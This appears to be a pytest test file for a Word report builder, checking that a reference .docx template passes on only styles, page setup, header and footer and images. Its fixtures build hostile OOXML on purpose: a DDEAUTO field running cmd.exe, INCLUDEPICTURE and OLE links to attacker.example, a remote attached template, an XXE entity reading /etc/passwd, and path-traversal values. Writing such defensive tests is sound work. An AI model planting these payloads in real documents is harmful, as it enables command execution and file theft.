"""An office's reference .docx brings styles, page setup, header and footer text and images into a build,
and nothing else (docs/reliability.md, docs/templates.md)."""

from __future__ import annotations

import base64
import io
import random
import zipfile
from pathlib import Path

import docx
import pytest

from drafter.build import build_report
from drafter.commands.validate import validate_form
from drafter.docx import xml
from drafter.errors import FormError, InputError
from tests.conftest import MAIN_EXAMPLE

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "attacker.example"
HEADER_TEXT = "青山县科学技术局文件"

HOSTILE_HEADER = (
    # INCLUDEPICTURE and DDEAUTO as complex fields, HYPERLINK as a simple one, PAGE kept
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://attacker.example/p.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>SHOWN-PICTURE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:fldSimple w:instr=" HYPERLINK http://attacker.example/s "><w:r><w:t>SIMPLE-TEXT</w:t></w:r></w:fldSimple></w:p>'
    '<w:p><w:hyperlink r:id="rIdEvil1"><w:r><w:t>LINK-TEXT</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdEvil2"/></w:drawing></w:r></w:p>'
    '<w:p><w:r><w:object><o:OLEObject r:id="rIdEvil3"/></w:object></w:r></w:p>'
    # links written straight into VML attributes, not through a relationship
    '<w:p><w:r><w:pict><v:shape><v:imagedata o:href="\\\\attacker.example\\share\\x.png" '
    'src="http://attacker.example/src.png"/></v:shape></w:pict></w:r></w:p>'
    '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>HEADER-TAIL</w:t></w:r><w:commentRangeEnd w:id="0"/>'
    '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
)
HOSTILE_HEADER_RELS = (
    f'<Relationship Id="rIdEvil1" Type="{R}/hyperlink" Target="http://attacker.example/h" TargetMode="External"/>'
    f'<Relationship Id="rIdEvil2" Type="{R}/image" Target="file:///etc/passwd" TargetMode="External"/>'
    f'<Relationship Id="rIdEvil3" Type="{R}/oleObject" Target="http://attacker.example/o" TargetMode="External"/>'
)


def _edit(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    text = parts[name].decode("utf-8")
    assert old in text, (name, old)
    parts[name] = text.replace(old, new, 1).encode("utf-8")


def _zip(parts: dict[str, bytes], path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def plain_reference(tmp_path) -> Path:
    """A letterhead: margins, a header with text and a logo, page numbers in the footer."""
    reference = docx.Document()
    section = reference.sections[0]
    section.header.paragraphs[0].text = HEADER_TEXT
    section.header.add_paragraph().add_run().add_picture(io.BytesIO(PNG))
    footer = section.footer.paragraphs[0]
    footer.add_run("第")
    xml.add_page_field(footer)
    footer.add_run("页")
    reference.add_paragraph("模板正文")
    path = tmp_path / "plain.docx"
    reference.save(str(path))
    return path


@pytest.fixture
def hostile_reference(tmp_path, plain_reference) -> Path:
    parts = _parts(plain_reference)
    header = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
    _edit(parts, header, "</w:hdr>", HOSTILE_HEADER + "</w:hdr>")
    rels = header.replace("word/", "word/_rels/") + ".rels"
    _edit(parts, rels, "</Relationships>", HOSTILE_HEADER_RELS + "</Relationships>")
    _edit(parts, "word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:docVars><w:docVar w:name="x" '
          'w:val="SECRET-DOCVAR"/></w:docVars><w:zoom')
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rIdT" Type="{R}/attachedTemplate" '
        f'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>').encode()
    _edit(parts, "word/_rels/document.xml.rels", "</Relationships>",
          '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
          'Target="vbaProject.bin"/>'
          f'<Relationship Id="rIdC" Type="{R}/comments" Target="comments.xml"/></Relationships>')
    parts["word/vbaProject.bin"] = b"SECRET-MACRO" * 100
    parts["word/comments.xml"] = ('<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                                  '<w:comment w:id="0"><w:p><w:r><w:t>SECRET-COMMENT</w:t></w:r></w:p></w:comment>'
                                  '</w:comments>').encode()
    _edit(parts, "docProps/core.xml", "</cp:coreProperties>", "<cp:keywords>SECRET-KEYWORD</cp:keywords></cp:coreProperties>")
    parts["word/media/junk.bin"] = b"SECRET-JUNK" + random.Random(1).randbytes(1_000_000)
    return _zip(parts, plain_reference.with_name("hostile.docx"))


def _build(tmp_path, reference: Path | None = None, layout: str = ""):
    form = tmp_path / "report.yaml"
    form.write_text(MAIN_EXAMPLE.read_text(encoding="utf-8") + layout, encoding="utf-8")
    return build_report(form, tmp_path / "out.docx", reference=reference)


def test_a_hostile_reference_brings_only_styles_page_header_and_images(tmp_path, hostile_reference):
    result = _build(tmp_path, hostile_reference)
    parts = _parts(result.output)
    everything = b"".join(parts.values())
    for leak in (EVIL.encode(), b"file:///", b"INCLUDEPICTURE", b"DDEAUTO", b"HYPERLINK", b"SECRET-", b"vbaProject",
                 b"attachedTemplate", b"comment", b"docVar", b"customXml", "模板正文".encode()):
        assert leak not in everything, leak
    assert not any(name.startswith("customXml/") for name in parts)
    assert "word/media/junk.bin" not in parts and len(everything) < 1_000_000   # the 1 MB of junk stayed behind
    document = docx.Document(str(result.output))
    header = document.sections[0].header
    texts = [p.text for p in header.paragraphs]
    assert HEADER_TEXT in texts and "SHOWN-PICTURE" in texts and "SIMPLE-TEXT" in texts and "LINK-TEXT" in texts
    assert "HEADER-TAIL" in texts
    assert [n for n in parts if n.startswith("word/media/")] and PNG in parts.values()  # the logo stays
    footer = document.sections[0].footer.paragraphs[0]
    assert footer.text.startswith("第") and b"PAGE" in footer._p.xml.encode()  # page numbers stay
    said = "\n".join(result.notes)
    for what in ("宏（VBA）", "批注", "附加模板", "文档变量", "外部链接：超链接", "外部链接：图片", "外部链接：嵌入或链接的对象（OLE）",
                 "INCLUDEPICTURE", "DDEAUTO", "HYPERLINK", "未被引用的部件", "文档属性",
                 "外部链接：写在属性中的网址或路径"):
        assert what in said, what
    assert f"使用本单位的 Word 模板：{hostile_reference}" in said


def test_the_built_document_is_the_same_bytes_twice(tmp_path, hostile_reference):
    first = _build(tmp_path, hostile_reference).output.read_bytes()
    second = build_report(tmp_path / "report.yaml", tmp_path / "again.docx", reference=hostile_reference).output
    assert second.read_bytes() == first


def test_a_reference_without_table_grid_gets_it_from_the_builtin(tmp_path, plain_reference):
    parts = _parts(plain_reference)
    styles = parts["word/styles.xml"].decode("utf-8")
    start = styles.index('<w:style w:type="table" w:customStyle="0" w:styleId="TableGrid"') if \
        'w:styleId="TableGrid"' in styles and '<w:style w:type="table" w:customStyle="0" w:styleId="TableGrid"' in styles \
        else styles.index('w:styleId="TableGrid"')
    start = styles.rindex("<w:style ", 0, start + 1)
    end = styles.index("</w:style>", start) + len("</w:style>")
    parts["word/styles.xml"] = (styles[:start] + styles[end:]).encode("utf-8")
    reference = _zip(parts, tmp_path / "no-grid.docx")
    assert "Table Grid" not in {s.name for s in docx.Document(str(reference)).styles}
    built = docx.Document(str(_build(tmp_path, reference).output))
    assert built.tables and built.tables[0].style.name == "Table Grid"


def test_a_reference_with_an_xml_entity_is_refused_before_anything_is_written(tmp_path, plain_reference):
    parts = _parts(plain_reference)
    styles = parts["word/styles.xml"].decode("utf-8")
    parts["word/styles.xml"] = styles.replace("?>", '?><!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1) \
        .replace("</w:styles>", "<w:x>&xxe;</w:x></w:styles>").encode("utf-8")
    reference = _zip(parts, tmp_path / "xxe.docx")
    with pytest.raises(InputError, match="DTD|实体"):
        _build(tmp_path, reference)
    assert not (tmp_path / "out.docx").exists()


@pytest.mark.parametrize(("value", "reason"), [
    ("/etc/passwd.docx", "绝对路径"),
    ("C:\\\\Users\\\\x\\\\a.docx", "绝对路径"),
    ("../other/office.docx", "“..”"),
    ("sub/../../office.docx", "“..”"),
])
def test_reference_docx_in_a_form_stays_in_the_forms_folder(tmp_path, value, reason):
    layout = f'layout:\n  reference_docx: "{value}"\n'
    with pytest.raises(FormError) as caught:
        _build(tmp_path, layout=layout)
    message = str(caught.value)
    assert reason in message and "layout.reference_docx" in message
    assert f"report.yaml:{MAIN_EXAMPLE.read_text(encoding='utf-8').count(chr(10)) + 2}:" in message
    with pytest.raises(FormError, match="layout.reference_docx"):
        validate_form(tmp_path / "report.yaml")


def test_reference_docx_through_a_symlink_out_of_the_folder_is_refused(tmp_path, plain_reference):
    (tmp_path / "form").mkdir()
    (tmp_path / "form" / "office.docx").symlink_to(plain_reference)
    form = tmp_path / "form" / "report.yaml"
    form.write_text(MAIN_EXAMPLE.read_text(encoding="utf-8") + "layout:\n  reference_docx: office.docx\n", encoding="utf-8")
    with pytest.raises(FormError, match="符号链接"):
        build_report(form, tmp_path / "out.docx")


def test_a_reference_found_beside_the_form_is_named(tmp_path, plain_reference):
    (tmp_path / "templates").mkdir()
    plain_reference.rename(tmp_path / "templates" / "reference.docx")
    result = _build(tmp_path)
    assert any(f"使用本单位的 Word 模板：{tmp_path / 'templates' / 'reference.docx'}" in note for note in result.notes)


def test_a_reference_beside_the_form_that_is_a_symlink_is_refused(tmp_path, plain_reference):
    from drafter.errors import TemplateError

    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "reference.docx").symlink_to(plain_reference)
    with pytest.raises(TemplateError, match="符号链接"):
        _build(tmp_path)


def test_the_builtin_reference_is_not_announced(tmp_path):
    assert not any("Word 模板" in note for note in _build(tmp_path).notes)
